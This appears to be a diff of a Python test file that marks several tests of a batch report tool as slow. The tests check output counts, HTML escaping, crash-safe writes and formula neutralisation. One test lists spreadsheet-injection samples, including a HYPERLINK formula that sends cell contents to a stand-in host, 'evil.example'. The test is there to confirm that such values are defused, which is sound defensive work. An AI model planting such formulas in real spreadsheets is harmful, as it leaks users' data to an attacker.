@@ -46,6 +46,7 @@ def verdicts(outputs: Path) -> list[str]:
     return [json.loads(line)["verdict"] for line in lines]
 
 
+@pytest.mark.slow
 def test_the_summary_line_counts_every_row(outputs: Path) -> None:
     counts = Counter(verdicts(outputs))
     assert counts["rejected"] == 2 and counts["error"] == 3
@@ -135,6 +136,7 @@ def test_html_is_self_contained_and_escaped(outputs: Path) -> None:
     assert (outputs / "summary.txt").read_text("utf-8") in html
 
 
+@pytest.mark.slow
 def test_a_crash_mid_write_leaves_no_output(tmp_path: Path, small_list: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
     written = 0
@@ -155,6 +157,7 @@ def test_a_crash_mid_write_leaves_no_output(tmp_path: Path, small_list: Path,
     assert sorted(path.name for path in tmp_path.iterdir()) == ["list.csv"]
 
 
+@pytest.mark.slow
 def test_an_existing_output_survives_a_failed_run(tmp_path: Path, small_list: Path) -> None:
     target = tmp_path / "r.csv"
     target.write_text("old", encoding="utf-8")
@@ -172,6 +175,7 @@ def test_an_existing_output_survives_a_failed_run(tmp_path: Path, small_list: Pa
     assert sorted(path.name for path in tmp_path.iterdir()) == ["list.csv", "r.csv"]
 
 
+@pytest.mark.slow
 def test_header_cells_are_neutralised_like_data(tmp_path: Path) -> None:
     """A header is the list author's text too: no live formula in the xlsx, none in the csv."""
     evil = ['=HYPERLINK("http://evil.example/?"&A2;"点我")', "@cmd", "+1", "-x"]
@@ -187,6 +191,7 @@ def test_header_cells_are_neutralised_like_data(tmp_path: Path) -> None:
     assert rows[0] == expected
 
 
+@pytest.mark.slow
 def test_jsonl_findings_keep_the_results_that_need_action(tmp_path: Path) -> None:
     source = write_csv(tmp_path / "list.csv", HEADER, [cells for cells, _ in ROWS])
     result = run("batch", source, "-o", tmp_path / "full.jsonl", "-o", tmp_path / "r.csv",
